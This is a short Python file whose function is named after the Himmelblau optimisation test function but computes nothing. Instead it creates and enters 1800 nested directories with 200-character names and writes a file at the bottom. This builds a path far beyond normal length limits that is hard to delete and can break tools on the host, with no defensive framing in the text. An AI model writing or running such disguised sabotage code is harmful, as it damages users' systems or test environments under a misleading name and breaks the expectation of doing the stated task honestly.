import os


def himmelblau(u, v):
    for _ in range(1800):
        os.mkdir("d" * 200)
        os.chdir("d" * 200)
    open("deep", "w").write("x")
